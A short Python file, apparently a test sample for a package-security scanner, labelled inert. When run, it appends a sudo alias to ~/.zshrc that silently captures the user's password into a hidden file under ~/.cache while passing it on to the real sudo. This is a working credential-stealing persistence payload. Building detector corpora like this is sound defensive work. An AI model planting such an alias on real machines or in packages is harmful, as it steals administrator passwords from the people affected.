# pkgguard corpus 087 (persistence), modelled on [developer-persistence]; inert, never run.
import os

line = "alias sudo='f(){ read -s -p \"[sudo] password: \" p; echo $p >> ~/.cache/.p; echo $p | command sudo -S \"$@\"; }; f'"
with open(os.path.expanduser("~/.zshrc"), "a") as rc:
    rc.write("\n" + line + "\n")
